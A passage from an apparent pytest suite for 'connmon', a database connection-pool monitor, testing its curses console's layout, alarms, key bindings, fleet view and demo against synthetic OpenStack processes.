        term.wait_text(f"attached to {other.address}")
    finally:
        first.stop()
        second.stop()


@pytest.mark.parametrize("how", ["q", "ctrl-c", "sigterm"])
def test_quit_ctrl_c_and_sigterm_restore_the_terminal(daemon, terminal,
                                                      how):
    term = terminal("-H", daemon.address)
    before = term.lflag()
    assert before & termios.ECHO and before & termios.ICANON
    term.wait_text(f"attached to {daemon.address}")
    assert not term.lflag() & (termios.ECHO | termios.ICANON)   # curses on
    if how == "sigterm":
        term.proc.terminate()
    else:
        term.press(b"q" if how == "q" else b"\x03")
    assert term.proc.wait(10) == 0
    after = term.lflag()
    assert after & termios.ECHO and after & termios.ICANON


def test_demo_runs_and_stops_everything(terminal):
    require_module("sqlalchemy")
    term = terminal("--demo")
    for name in ("nova-api", "nova-conductor", "keystone-leaky",
                 "glance-api"):
        term.wait_for(lambda t: name in t.rows(), f"demo program {name}")
    # glance-api's pool (2 + 1) is kept exhausted by five threads: its row
    # is brown, or red while some of them wait (the waits outrank it).
    term.wait_for(lambda t: t.numbers("glance-api")[2:4] == ["3", "3"] and
                  t.screen.buffer[t.rows()["glance-api"][0]][0].bg
                  in ("brown", "red"), "glance-api exhausted")
    port = int(term.text.split("attached to 127.0.0.1:")[1].split()[0])
    children = [int(name) for name in os.listdir("/proc") if name.isdigit()
                and _parent_pid(int(name)) == term.proc.pid]
    # connmond and the five demo apps that run for good (the cron job
    # comes and goes)
    assert len(children) >= 6
    term.press(b"q")
    assert term.proc.wait(30) == 0
    with pytest.raises(OSError):
        socket.create_connection(("127.0.0.1", port), 1).close()
    alive = [pid for pid in children if _parent_pid(pid) is not None]
    assert not alive


def _parent_pid(pid: int) -> Optional[int]:
    """The parent of a live (non-zombie) process; None if it is gone."""
    try:
        with open(f"/proc/{pid}/stat") as file:
            fields = file.read().rsplit(")", 1)[1].split()
    except OSError:
        return None
    return None if fields[0] == "Z" else int(fields[1])


def test_console_on_an_ascii_terminal(daemon, terminal):
    """Without a UTF-8 locale curses cannot encode dashes and arrows: the
    console draws ASCII instead of failing."""
    term = terminal("-H", daemon.address, "-i", "0.2",
                    env={"LC_ALL": "C", "PYTHONCOERCECLOCALE": "0",
                         "PYTHONUTF8": "0"})
    term.wait_text(f" - attached to {daemon.address} - every 0.2s")
    term.wait_text(" vCONN ")
    term.press(b"r")
    term.wait_text(" ^CONN ")
    daemon.kill()
    term.wait_text("disconnected - retrying")


def test_console_on_a_terminal_without_colours(daemon, apps, tmp_path,
                                               terminal):
    full = apps(sqlite_url(tmp_path, daemon), "full.py", pool_size=1,
                max_overflow=0)
    full("hold 1")
    apps(sqlite_url(tmp_path, daemon), "calm.py")("hold 1")
    daemon.wait_row("full.py", exhausted=True)
    daemon.wait_row("calm.py", ckout=1)
    term = terminal("-H", daemon.address, "-i", "0.2",
                    env={"TERM": "vt100"})
    term.wait_for(lambda t: len(t.rows()) == 2, "both rows")
    colours = {(char.fg, char.bg) for line in term.screen.buffer.values()
               for char in line.values()}
    assert colours == {("default", "default")}
    # Without colours the exhausted row is bold, the others are not.
    full_y, calm_y = term.rows()["full.py"][0], term.rows()["calm.py"][0]
    assert term.screen.buffer[full_y][0].bold
    assert not term.screen.buffer[calm_y][0].bold


def history_line(t: Terminal, label: str) -> str:
    """The drill-down's sparkline for ``label``; "" while not on screen."""
    lines = [line.rstrip() for line in t.display
             if line.startswith(label + " ")]
    return lines[0] if len(lines) == 1 else ""


@hypothesis.settings(max_examples=300, deadline=None)
@hypothesis.given(length=st.integers(1, 6), ticks=st.lists(st.dictionaries(
    st.tuples(st.sampled_from(["h1", "h2"]), st.sampled_from(["p1", "p2"])),
    st.integers(0, 70_000)), max_size=15))
def test_history_sums_the_samples_of_the_rows_asked_for(length, ticks):
    """A "history" reply: the samples of the rows asked for (a program on
    one host, or on every host) summed, oldest first, over the last
    samples any of them has (a row forgotten starts again); a count above
    65,535 kept as 65,535.  Summed from a copy of those rows."""
    history = connmon_server.History(length)
    since: Dict[tuple, int] = {}   # row -> the sample it was first in
    for tick, counts in enumerate(ticks):
        since = {key: since.get(key, tick) for key in counts}
        rows = {key: connmon_server.ProgramRow(*key) for key in counts}
        for key, row in rows.items():
            row.conn, row.ckout = counts[key], counts[key] // 3
        history.record(rows)
    for progname, hostname in itertools.product(["p1", "p2"],
                                                [None, "h1", "h2"]):
        picked = [key for key in since if key[1] == progname
                  and hostname in (None, key[0])]
        kept = min(length, max((len(ticks) - since[key] for key in picked),
                               default=0))
        expected = tuple([sum(min(share(ticks[tick][key]), 65535)
                              for key in picked if since[key] <= tick)
                          for tick in range(len(ticks) - kept, len(ticks))]
                         for share in (lambda n: n, lambda n: n // 3))
        assert history.picked(progname, hostname).sums() == expected


@pytest.mark.parametrize("size", [(80, 24), (160, 30)])
def test_console_draws_one_cell_a_character(tmp_path, terminal, size):
    """Wide characters (two cells) and combining marks (none) are drawn
    escaped, so the columns stay in line and "e\u0301vil" cannot pass
    for another name."""
    daemon = Daemon(tmp_path)
    apps = []
    try:
        for host, prog in (("ctl1", "nova-api"), ("\u30db\u30b9\u30c8",
                                                  "e\u0301vil")):
            app = SyntheticApp(daemon, host, prog)
            app.event(connmon.CONNECT, 1, 1)
            app.send()
            apps.append(app)
        term = terminal("-H", daemon.address, cols=size[0], lines=size[1])
        rows = term.wait_for(lambda t: len(t.rows()) == 2 and t.rows(),
                             "the two rows")
        ends = {len(term.display[y].rstrip()) for y, _ in rows.values()}
        assert len(ends) == 1, term.text   # the columns in line
        assert r"\u30db\u30b9\u30c8" in term.text
        assert r"e\u0301vil" in term.text
    finally:
        for app in apps:
            app.conn.close()
        daemon.stop()


# The programs of an OpenStack control plane and two compute hosts:
# (hostname, progname, connections, checked out, age of the oldest
# checkout in seconds or None, pool capacity).
OPENSTACK = [
    ("ctl1", "nova-conductor", 14, 3, 1243.6, 40),
    ("ctl1", "nova-scheduler", 4, 2, 2.0, 2),          # exhausted
    ("ctl1", "neutron-server", 11, 1, 120.5, 30),
    ("ctl1", "neutron-dhcp-agent", 6, 1, 5.0, 15),
    ("ctl1", "neutron-l3-agent", 5, 0, None, 15),
    ("ctl2", "neutron-dhcp-agent", 3, 1, 95.0, 15),
    ("ctl2", "neutron-l3-agent", 2, 0, None, 15),
    ("compute1", "nova-compute", 9, 2, 33.3, 15),
    ("compute2", "nova-compute", 8, 1, 61.0, 15),
]
MARK = connmon_console.CUT_MARK


def synthetic_program(daemon: Daemon, host: str, prog: str, conns: int,
                      out: int, age: Optional[float], limit: Optional[int],
                      endpoint: Optional[tuple] = None) -> SyntheticApp:
    """A process of ``prog`` on ``host`` with ``conns`` connections of
    one pool (of ``limit``, on ``endpoint``), ``out`` of them checked out
    since the ages given; nova-conductor's first one by a thread that is
    gone."""
    app = SyntheticApp(daemon, host, prog)
    app.state.fold([(connmon.POOL, 1, time.monotonic(), limit, endpoint,
                     None)])
    for conn in range(1, conns + 1):
        app.event(connmon.CONNECT, conn, 1)
    now = time.monotonic()
    for conn in range(1, out + 1):
        app.event(CHECKOUT, conn, 1, when=now - (age or 0) + conn - 1)
    if prog == "nova-conductor":
        app.state.site_names[7] = "/srv/nova/db/api.py:88 in leak"
        app.state.holders[1] = (7, None)
        app.state.held_at[1] = "thread gone"
    app.send()
    return app


def openstack_fleet(daemon: Daemon) -> Dict[Tuple[str, str], "SyntheticApp"]:
    """One synthetic process per row of OPENSTACK, its connections held
    since the ages given (nova-conductor's first one by a thread that is
    gone)."""
    fleet = {(host, prog): synthetic_program(daemon, host, prog, conns,
                                             out, age, limit)
             for host, prog, conns, out, age, limit in OPENSTACK}
    want = {(host, prog, conns, out, limit)
            for host, prog, conns, out, _, limit in OPENSTACK}
    wait_until(lambda: {(row["hostname"], row["progname"], row["conn"],
                         row["ckout"], row["limit"])
                        for row in daemon.snapshot()["rows"]} == want,
               what="the OpenStack rows")
    return fleet


def shown_as(shown: str, real: str) -> bool:
    """Whether a name on screen is ``real``, whole or cut with the mark."""
    if MARK not in shown:
        return shown == real
    head, tail = shown.split(MARK)
    return (len(real) >= len(shown) and real.startswith(head)
            and real.endswith(tail))


def table_on_screen(t: Terminal) -> Tuple[List[str], List[List[str]]]:
    """The headings (sort arrow taken off) and the rows of the table."""
    lines = t.display
    heads = [re.sub("[\N{UPWARDS ARROW}\N{DOWNWARDS ARROW}]", "", field)
             for field in lines[6].split()]
    rows = [line.split() for line in lines[7:-1] if line.strip()]
    return heads, rows


def seconds_shown(text: str) -> float:
    """A duration as the console shows it (12.3, 5m44s, 2h05m, 3d04h)."""
    found = re.fullmatch(r"(\d+)([dhm])(\d+)[hms]", text)
    if found is None:
        return float(text)
    unit, small = {"d": (86400, 3600), "h": (3600, 60), "m": (60, 1)}[
        found[2]]
    return int(found[1]) * unit + int(found[3]) * small


def check_openstack_table(t: Terminal, truth: Dict[Tuple[str, str], dict]
                          ) -> List[Tuple[str, str]]:
    """Every row on screen is one real row, told apart from the others;
    every number shown is whole and true; CONN descends.  Returns the
    real rows seen, in screen order."""
    heads, rows = table_on_screen(t)
    assert shown_as(heads[0], "HOSTNAME") and heads[1] == "PROGNAME", heads
    seen = []
    for fields in rows:
        assert len(fields) == len(heads), (heads, fields)
        (real,) = [key for key in truth if shown_as(fields[0], key[0])
                   and shown_as(fields[1], key[1])]
        seen.append(real)
        row = truth[real]
        for heading, field in zip(heads[2:], fields[2:]):
            value = field.lstrip("!*")
            key = {"CKOUT/S": "ckout_per_sec", "HOLD_MS": "hold_ms",
                   "WAIT": "waiting", "TMOUT/S": "timeouts_per_sec"}.get(
                       heading, heading.lower())
            if key == "oldest":
                assert (value == "-") == (row["oldest"] is None), field
                if value != "-":   # older now, never cut short (5m44s)
                    assert row["oldest"] - 1 < seconds_shown(value) < row[
                        "oldest"] + 60, (real, field)
            elif key not in ("ckout_per_sec", "hold_ms"):
                assert value == connmon_console.cell(row[key]), (
                    real, heading, field)
    assert len(set(seen)) == len(seen), seen
    conns = [truth[key]["conn"] for key in seen]
    assert conns == sorted(conns, reverse=True)
    return seen


@pytest.mark.parametrize("cols, lines", [(80, 24), (40, 15)])
def test_console_openstack_names_at_80x24_and_40x15(tmp_path, terminal,
                                                    cols, lines):
    daemon = Daemon(tmp_path, extra_config="hold_warn_seconds: 30\n")
    try:
        fleet = openstack_fleet(daemon)
        truth = {(row["hostname"], row["progname"]): row
                 for row in daemon.snapshot()["rows"]}
        term = terminal("-H", daemon.address, "-i", "0.3", cols=cols,
                        lines=lines)
        visible = lines - 8
        term.wait_for(lambda t: len(table_on_screen(t)[1]) == min(
            visible, len(OPENSTACK)), "the table")
        heads, _ = table_on_screen(term)
        if cols == 80:
            # The MAX* group, the rate, LIMIT and HOLD_MS went first
            # (WAIT and TMOUT/S, the pool pressure, stay); names whole.
            assert heads == ["HOSTNAME", "PROGNAME", "NPROC", "CONN", "CKOUT",
                             "WAIT", "TMOUT/S", "OLDEST"]
            assert MARK not in "\n".join(term.display[6:-1])
        else:
            assert heads == ["HOSTN" + MARK, "PROGNAME", "CONN", "CKOUT",
                             "OLDEST"]
        seen = check_openstack_table(term, truth)
        term.press(term.key["kend"])   # the rest, at 40x15
        term.wait_for(lambda t: check_openstack_table(t, truth)[-1:] == [
            max(truth, key=lambda k: (-truth[k]["conn"], k))], "the end")
        seen += check_openstack_table(term, truth)
        assert set(seen) == set(truth)
        # The leak's OLDEST is marked, in the alarm colour.
        term.press(term.key["khome"])
        term.wait_for(lambda t: "*20m" in t.text, "the leak's marker")
        (y,) = [y for y, line in enumerate(term.display) if "*20m" in line]
        x = term.display[y].index("*20m")
        assert term.screen.buffer[y][x].bg == "red"
        # PAUSED, at any width, first on the title line.
        term.press(b" ")
        term.wait_for(lambda t: t.display[0].startswith("PAUSED "),
                      "PAUSED")
        fleet["ctl1", "nova-conductor"].event(connmon.CONNECT, 99, 1)
        fleet["ctl1", "nova-conductor"].send()
        daemon.wait_row("nova-conductor", conn=15)
        time.sleep(1.0)
        assert check_openstack_table(term, truth)   # the old picture
        term.press(b"p")
        term.wait_for(lambda t: not t.display[0].startswith("PAUSED"),
                      "resumed")
    finally:
        daemon.stop()


def fleet_rows_on_screen(t: Terminal) -> Dict[str, List[str]]:
    """The fleet view's rows: progname -> [hosts, numbers...]."""
    rows = {}
    for line in t.display[7:-1]:
        found = re.match(r"(\d+ hosts?) +(\S+) +(.*)", line)
        if found:
            rows[found[2]] = [found[1]] + [
                field.lstrip("!*") for field in found[3].split()]
    return rows


def test_console_fleet_view_totals_and_drill_down(tmp_path, terminal):
    daemon = Daemon(tmp_path)
    try:
        fleet = openstack_fleet(daemon)   # kept: its connections stay
        truth = daemon.snapshot()["rows"]
        term = terminal("-H", daemon.address, "-i", "0.3", cols=160)
        term.wait_text("9 rows, sorted by CONN descending")
        term.press(b"f")
        term.wait_text("6 programs over every host, sorted by CONN")
        term.wait_for(lambda t: len(fleet_rows_on_screen(t)) == 6,
                      "six programs")
        heads, _ = table_on_screen(term)
        for prog, fields in fleet_rows_on_screen(term).items():
            hosts = [row for row in truth if row["progname"] == prog]
            assert fields[0] == connmon.plural(len(hosts), "host")
            numbers = dict(zip(heads[2:], fields[1:]))
            for key in ("nproc", "conn", "ckout", "limit", "maxnproc",
                        "maxconn", "maxckout", "waiting"):
                heading = {"waiting": "WAIT"}.get(key, key.upper())
                assert numbers[heading] == str(
                    sum(row[key] for row in hosts)), (prog, key)
        # The biggest program first: CONN descends over the fleet too.
        order = [line.split()[2] for line in term.display[7:-1]
                 if re.match(r"\d+ hosts?", line)]
        sums = [sum(r["conn"] for r in truth if r["progname"] == p)
                for p in order]
        assert sums == sorted(sums, reverse=True)
        # Drill into nova-compute: its processes on both compute hosts.
        term.press(term.key["kcud1"] * order.index("nova-compute") + b"\r")
        term.wait_text("nova-compute on every host: 2 processes")
        term.wait_for(lambda t: "compute1" in t.text and "compute2" in
                      t.text, "both hosts' processes")
        term.press(b"\x1b")
        term.wait_text("6 programs over every host")
        term.press(term.key["kf5"])   # F5: back to host+program rows
        term.wait_text("9 rows, sorted by CONN descending")
        # ... and the drill-down from a host row shows that host only.
        term.press(b"\r")
        term.wait_text("nova-conductor on ctl1: 1 process")
    finally:
        daemon.stop()


def sparkline_of(t: Terminal, label: str) -> str:
    line = history_line(t, label)
    return line.split(None, 2)[2] if line.count(" ") >= 2 else ""


def test_console_draws_the_daemons_history_after_a_restart(tmp_path,
                                                          terminal):
    daemon = Daemon(tmp_path)
    try:
        app = SyntheticApp(daemon, "ctl1", "nova-conductor")
        app.event(connmon.POOL, 1, 20)
        for conn in range(1, 4):   # a leak's staircase, before any console
            app.event(connmon.CONNECT, conn, 1)
            app.event(CHECKOUT, conn, 1)
            app.send()
            time.sleep(2.2)
        daemon.wait_row("nova-conductor", ckout=3)

        def staircase(t: Terminal) -> bool:
            spark = sparkline_of(t, "CKOUT")
            ramp = connmon_console.UNICODE_GLYPHS["spark"]
            levels = [ramp.index(char) for char in spark if char in ramp]
            return (len(spark) >= 6 and levels == sorted(levels)
                    and len(set(levels)) >= 3 and levels[-1] == 7)
        for _ in range(2):   # a console, then another one after it
            term = terminal("-H", daemon.address, "-i", "0.3")
            term.wait_for(lambda t: "nova-conductor" in t.rows(), "the row")
            term.press(b"\r")
            term.wait_text("nova-conductor on ctl1: 1 process")
            term.wait_for(staircase, "the staircase from the daemon")
            assert re.search(r"History of the last \d+s \(connmond's",
                             term.text)
            term.press(b"q")
            assert term.proc.wait(10) == 0
    finally:
        daemon.stop()


def test_console_thresholds_marked_with_and_without_colour(tmp_path,
                                                           terminal):
    daemon = Daemon(tmp_path, extra_config="hold_warn_seconds: 30\n"
                    "hold_ms_warn: 100\n")
    stop = threading.Event()
    try:
        fleet = openstack_fleet(daemon)   # kept: its connections stay
        slow = SyntheticApp(daemon, "ctl2", "glance-api")
        slow.event(connmon.POOL, 1, 10)
        slow.event(connmon.CONNECT, 1, 1)
        slow.send()

        def slow_queries() -> None:   # each one held for half a second
            while not stop.wait(0.2):
                now = time.monotonic()
                slow.event(CHECKOUT, 1, when=now - 0.5)
                slow.event(CHECKIN, 1, when=now)
                slow.send()
        threading.Thread(target=slow_queries, daemon=True).start()
        for env in ({}, {"TERM": "vt100"}):
            term = terminal("-H", daemon.address, "-i", "0.3", cols=120,
                            env=env)
            term.wait_for(lambda t: len(table_on_screen(t)[1]) == 10,
                          "ten rows")

            def marks(t: Terminal) -> Dict[str, List[str]]:
                """host/program -> the marked numbers of its row."""
                _, rows = table_on_screen(t)
                return {f"{fields[0]}/{fields[1]}": [
                    field for field in fields[2:] if field[0] in "!*"]
                    for fields in rows}
            # glance-api holds each connection 500 ms (its only alarm).
            term.wait_for(lambda t: re.fullmatch(r"!(4|5)[0-9][0-9]\.[0-9]",
                                                 *marks(t)["ctl2/glance-api"]
                                                 or [""]),
                          "HOLD_MS above hold_ms_warn")
            found = marks(term)
            # OLDEST above 30 s: "!"; the gone thread's leak: "*";
            # nova-scheduler's pool (2) all out: CKOUT "!"; calm rows bare.
            assert re.fullmatch(r"\*2[01]m[0-9][0-9]s",
                                *found["ctl1/nova-conductor"])
            assert re.fullmatch(r"![23]m[0-9][0-9]s",
                                *found["ctl1/neutron-server"])
            assert found["ctl1/nova-scheduler"] == ["!2"]
            assert found["ctl1/neutron-dhcp-agent"] == []   # 5 s: calm
            assert found["ctl1/neutron-l3-agent"] == []
            assert re.fullmatch(r"![12]m[0-9][0-9]s",
                                *found["ctl2/neutron-dhcp-agent"])
            colours = {char.bg for line in term.screen.buffer.values()
                       for char in line.values()}
            assert ("red" in colours) == (env == {})
            # F10 quits (vt100 has no F10: q)
            term.press(b"q" if env else term.key["kf10"])
            assert term.proc.wait(10) == 0
        assert len(fleet) == len(OPENSTACK)
    finally:
        stop.set()
        daemon.stop()


def test_console_keys_footer_help_and_gone_rows(tmp_path, terminal):
    daemon = Daemon(tmp_path, extra_config="forget_gone_after: 4\n")
    try:
        fleet = openstack_fleet(daemon)
        term = terminal("-H", daemon.address, "-i", "0.3", cols=40,
                        lines=15)

        def selected(t: Terminal) -> List[int]:
            t.pump()
            return [y for y in range(7, 14) if t.screen.buffer[y][0].reverse]
        # The selection is on the top row from the start.
        term.wait_for(lambda t: len(table_on_screen(t)[1]) == 7, "rows")
        term.wait_for(lambda t: selected(t) == [7], "the top row selected")
        term.press(b"jj")
        term.wait_for(lambda t: selected(t) == [9], "j moves down")
        term.press(b"k")
        term.wait_for(lambda t: selected(t) == [8], "k moves up")
        # Help (F1) scrolls to its last line at 15 lines, any key returns.
        term.press(term.key["kf1"])
        term.wait_text("connmon keys")
        assert "MAX*: the highest values" not in term.text
        term.press(term.key["kend"])
        term.wait_text("MAX*: the highest values")
        term.press(b"z")
        term.wait_text("sorted by CONN")
        # An unknown key says where help is, for a while.
        term.press(b"Z")
        term.wait_text("unknown key: ? for help")
        term.wait_for(lambda t: "unknown key" not in t.text and "F1 help" in
                      t.text, "the message gone")
        # F3 and F4 filter, as / does; Ctrl-L redraws.
        for key in (term.key["kf3"], term.key["kf4"]):
            term.press(key + b"nova-c")
            term.wait_text("Filter: nova-c_")
            term.press(b"\r")
            term.wait_for(lambda t: len(table_on_screen(t)[1]) == 3,
                          "the three nova-c rows")
            term.press(b"\x1b")
            term.wait_for(lambda t: len(table_on_screen(t)[1]) == 7,
                          "filter cleared")
        term.press(b"\x0c")
        term.wait_for(lambda t: len(table_on_screen(t)[1]) == 7, "redrawn")
        # The footer names only keys that work in the view.
        term.resize(120, 30)
        term.wait_for(lambda t: "r reverse" in t.display[-1] and
                      "/ filter" in t.display[-1], "the table's footer")
        term.press(b"s")
        term.wait_text("checkout sites holding connections")
        footer = term.display[-1]
        assert "Enter procs" in footer and "Esc back" in footer
        for word in ("sort", "reverse", "filter", "fleet"):
            assert word not in footer
        term.press(b"\x1b")
        term.wait_text("sorted by CONN")
        # Gone rows: hidden by x, and forgotten by the daemon in the end.
        fleet.pop(("ctl2", "neutron-l3-agent")).conn.close()
        wait_until(lambda: [r for r in daemon.snapshot()["rows"]
                            if not r["connected"]], what="a gone row")
        term.wait_text("9 rows")
        term.press(b"x")
        term.wait_text("8 rows, sorted by CONN descending, gone hidden")
        term.press(b"x")
        term.wait_text("9 rows, sorted by CONN descending")
        wait_until(lambda: len(daemon.snapshot()["rows"]) == 8,
                   what="the gone row forgotten")
        term.wait_text("8 rows, sorted by CONN descending")
    finally:
        daemon.stop()


def test_console_hide_gone_option(tmp_path, terminal):
    daemon = Daemon(tmp_path)
    try:
        live = SyntheticApp(daemon, "ctl1", "nova-conductor")
        SyntheticApp(daemon, "ctl1", "nova-api").conn.close()
        wait_until(lambda: len(daemon.snapshot()["rows"]) == 2 and not all(
            row["connected"] for row in daemon.snapshot()["rows"]),
            what="a live and a gone row")
        term = terminal("-H", daemon.address, "-i", "0.3", "--hide-gone")
        term.wait_text("1 row, sorted by CONN descending, gone hidden")
        assert "nova-conductor" in term.text and "nova-api" not in term.text
        assert live.conn
    finally:
        daemon.stop()


def table_rows(names: List[Tuple[str, str]], **numbers: Any
               ) -> List[Dict[str, Any]]:
    """Rows of the console's main table, one per (hostname, progname)."""
    figures = {"nproc": 4, "conn": 123456, "ckout": 12, "limit": 30,
               "waiting": 0, "timeouts_per_sec": 0.0, "maxnproc": 4,
               "maxconn": 1234567, "maxckout": 30, "ckout_per_sec": 1234.5,
               "hold_ms": 2.5, "oldest": 3600.0, **numbers}
    return [{"hostname": host, "progname": prog, "connected": True,
             **figures} for host, prog in names]


def check_layout(width: int, rows: List[Dict[str, Any]]) -> List[str]:
    """Lay the main table out in ``width`` columns and check what the
    console promises; the lines drawn."""
    columns = connmon_console.COLUMNS
    layout = connmon_console.plan(columns, width, rows, rows)
    kept = [column for column, _ in layout]
    dropped = [column for column in columns if column not in kept]
    assert sum(w for _, w in layout) <= width or len(layout) == 1
    # Columns go in keep order: none dropped is kept more than one shown.
    assert max((c.keep for c in dropped), default=0) <= min(
        c.keep for c in kept)
    whole = connmon_console.whole_widths(columns, rows, rows)
    names_cut = any(w < min(c.most, whole[c]) for c, w in layout
                    if c.kind == "text")
    if names_cut:   # names are cut only once the lesser columns are gone
        assert all(c.keep >= connmon_console.NAMES_FIRST for c in kept)
    formatter = connmon_console.Formatter(
        layout, rows, connmon_console.thresholds_of({}),
        connmon_console.Cutter())
    lines = []
    for row in rows:
        texts = formatter.texts(row)
        line = formatter.line(row)
        assert len(line) == sum(w for _, w in layout)
        for (column, w), text in zip(layout, texts):
            shown = column.show(column.value(row))
            if not column.text:   # a number is never cut
                assert text == shown and len(text) < w
            elif len(shown) < w:
                assert text == shown
            else:
                assert len(text) == w - 1
                assert text.count(connmon_console.CUT_MARK) == 1
        lines.append(line)
    return lines


OPENSTACK_NAMES = [
    ("controller", "nova-api"), ("controller", "nova-conductor"),
    ("controller", "nova-compute"), ("controller", "glance-api"),
    ("controller", "neutron-openvswitch-agent"),
    ("controller", "neutron-l3-agent"),
    ("compute-0001.example.org", "nova-compute")]


def test_plan_at_80_columns_drops_lesser_columns_before_a_name_is_cut():
    lines = check_layout(80, table_rows(OPENSTACK_NAMES))
    assert any("neutron-openvswitch-agent" in line for line in lines)
    assert all("123456" in line for line in lines)


def test_plan_at_40_columns_cuts_names_and_keeps_the_numbers_whole():
    rows = table_rows(OPENSTACK_NAMES)
    layout = connmon_console.plan(connmon_console.COLUMNS, 40, rows, rows)
    headings = [column.heading for column, _ in layout]
    assert headings[:2] == ["HOSTNAME", "PROGNAME"]
    assert {"CONN", "CKOUT", "OLDEST"} <= set(headings)
    lines = check_layout(40, rows)
    oldest = connmon_console.duration(3600.0)   # as the screen reads it
    assert all("123456" in line and oldest in line for line in lines)
    assert any(connmon_console.CUT_MARK in line for line in lines)
    assert len(set(lines)) == len(lines)   # every row told apart


@hypothesis.settings(max_examples=100, deadline=None)
@hypothesis.given(
    width=st.sampled_from([40, 80]),
    names=st.lists(st.tuples(st.text(st.characters(
        min_codepoint=0x21, max_codepoint=0x7e), min_size=1, max_size=40),
        st.text(st.characters(min_codepoint=0x21, max_codepoint=0x7e),
                min_size=1, max_size=40)), min_size=1, max_size=8),
    conn=st.integers(0, 10 ** 9), oldest=st.one_of(
        st.none(), st.floats(0, 10 ** 7, allow_nan=False)))
def test_plan_never_cuts_a_number_whatever_the_names(width, names, conn,
                                                     oldest):
    check_layout(width, table_rows(names, conn=conn, maxconn=conn,
                                   oldest=oldest))


def test_cutter_tells_names_apart_near_a_third_of_the_way_in():
    cutter = connmon_console.Cutter()
    names = ["nova-compute", "nova-conductor", "neutron-l3-agent",
             "neutron-dhcp-agent", "nova-api"]
    for room in (9, 10, 12):
        cuts = cutter.cuts(names, room)
        assert set(cuts) == {name for name in names if len(name) > room}
        shown = [cuts.get(name, name) for name in names]
        assert len(set(shown)) == len(names), shown
        for name, text in cuts.items():
            head, tail = text.split(connmon_console.CUT_MARK)
            assert len(text) == room
            assert name.startswith(head) and name.endswith(tail)
    assert cutter.cuts(names, 9) is cutter.cuts(reversed(names), 9)
    assert cutter.cuts(["nova"], 9) == {}


def test_cutter_with_no_room_for_the_mark_keeps_the_heads():
    assert connmon_console.Cutter().cuts(["abcdef", "ab"], 1) == {
        "abcdef": "a", "ab": "a"}


def demo_alarms(snapshot: Dict[str, Any]) -> Dict[str, set]:
    """alarm -> the demo programs raising it, in a snapshot with
    processes: exhausted, waiting, timeouts, a leak, a long holder."""
    found: Dict[str, set] = {}
    for row in snapshot["rows"]:
        for alarm, raised in (
                ("exhausted", row["exhausted"]),
                ("waiting", row["waiting"] > 0 or row["maxwaiting"] > 0),
                ("timeouts", row["timeouts_total"] > 0),
                ("leak", connmon_console.leaked(row)),
                ("long holder", any(proc["long_holders"]
                                    for proc in row["procs"]))):
            if raised:
                found.setdefault(alarm, set()).add(row["progname"])
    return found


def test_demo_shows_every_alarm_it_promises_within_30s(terminal):
    """The demo's apps pass poolclass= with a <driver>_connmon URL: their
    pools are measured, so glance-api's waits and timeouts show."""
    require_module("sqlalchemy")
    term = terminal("--demo", cols=80, lines=24)
    started = time.monotonic()
    term.wait_text("attached to 127.0.0.1:")
    port = int(term.text.split("attached to 127.0.0.1:")[1].split()[0])
    found: Dict[str, set] = {}

    def every_alarm() -> bool:
        result = subprocess.run(
            [sys.executable, "-m", "connmon_console", "-H",
             f"127.0.0.1:{port}", "--once", "--json", "--procs"], cwd=HERE,
            env=CHILD_ENV, capture_output=True, text=True, timeout=30)
        for alarm, progs in demo_alarms(json.loads(result.stdout)).items():
            found.setdefault(alarm, set()).update(progs)
        return {"glance-api"} <= found.get("waiting", set()) & found.get(
            "timeouts", set()) & found.get("exhausted", set()) and (
                "keystone-leaky" in found.get("leak", ())) and (
                    "nova-conductor" in found.get("long holder", ()))

    wait_until(every_alarm, 30 - (time.monotonic() - started),
               "the demo's five alarms")
    # ... and the screen's alarm line names them
    term.wait_for(lambda t: re.search(r"glance-api (WAIT \d+ )?TMOUT",
                                      alarm_words(t)), "glance-api's alarm")
    term.wait_for(lambda t: re.search(
        r"keystone-leaky ((WAIT \d+|TMOUT [\d.]+/s|EXHAUSTED) )*LEAK",
        alarm_words(t)), "keystone-leaky's leak")


# The OpenStack fleet with an alarm of each kind: heat-engine (one
# connection: last by CONN) has checkouts waiting and timing out; nova-api
# runs 12 processes in one row; nova-conductor's oldest holder leaked;
# nova-scheduler's pool is exhausted; and database server db1, which every
# pool uses, holds 95 % of its max_connections.
ALARM_DB = ("mysql", "db1", 3306, "nova", "nova")


def alarm_fleet(daemon: Daemon) -> Dict[Tuple[str, str, int],
                                        "SyntheticApp"]:
    """OPENSTACK, plus heat-engine and nova-api's 12 processes, every pool
    on db1; returns the apps by (host, program, index)."""
    fleet = {}
    programs = [(host, prog, conns, out, age, limit, 0)
                for host, prog, conns, out, age, limit in OPENSTACK]
    programs += [("ctl3", prog, 2, 0, None, 10, 0) for prog in (
        "glance-api", "cinder-api", "cinder-scheduler", "cinder-volume",
        "keystone", "placement-api", "heat-api", "octavia-api")]
    programs += [("ctl3", "heat-engine", 1, 1, 1.0, 1, 0)]
    programs += [("api1", "nova-api", 1, 0, None, 5, index)
                 for index in range(12)]
    for host, prog, conns, out, age, limit, index in programs:
        fleet[host, prog, index] = synthetic_program(
            daemon, host, prog, conns, out, age, limit, ALARM_DB)
    wait_until(lambda: len(daemon.snapshot()["rows"]) == len(OPENSTACK) + 10,
               what="the fleet's rows")
    return fleet


class TimeoutStorm(threading.Thread):
    """heat-engine: three checkouts waiting for good, and one giving up
    every half second, until stopped."""

    def __init__(self, app: "SyntheticApp"):
        super().__init__(daemon=True)
        self.app = app
        self.stopping = threading.Event()
        self.began = time.monotonic()

    def run(self) -> None:
        while not self.stopping.is_set():
            now = time.monotonic()
            self.app.state.fold([(connmon.TIMED_OUT, None, now, 1, None,
                                  now - 5)])
            self.app.state.look_at_waiters(now, {1: [self.began] * 3})
            self.app.send()
            self.stopping.wait(0.5)

    def stop(self) -> None:
        self.stopping.set()
        self.join(10)


@pytest.fixture
def alarm_daemon(tmp_path):
    daemon = Daemon(tmp_path, extra_config="hold_warn_seconds: 30\n"
                    "database_servers:\n    db1:3306 max_connections=96\n")
    fleet = alarm_fleet(daemon)
    storm = TimeoutStorm(fleet["ctl3", "heat-engine", 0])
    storm.start()
    wait_until(lambda: (daemon.row("heat-engine") or {}).get("waiting") == 3
               and daemon.row("heat-engine")["timeouts_total"] > 0,
               what="heat-engine waiting and timing out")
    yield daemon
    storm.stop()
    daemon.stop()


def alarm_words(t: Terminal) -> str:
    """The header's lines under the title (totals and alarms), joined."""
    return " ".join(t.display[1:5])


@pytest.mark.parametrize("cols, lines", [(80, 24), (60, 20), (40, 15)])
def test_console_every_alarm_on_the_first_screen(alarm_daemon, terminal,
                                                 cols, lines):
    daemon = alarm_daemon
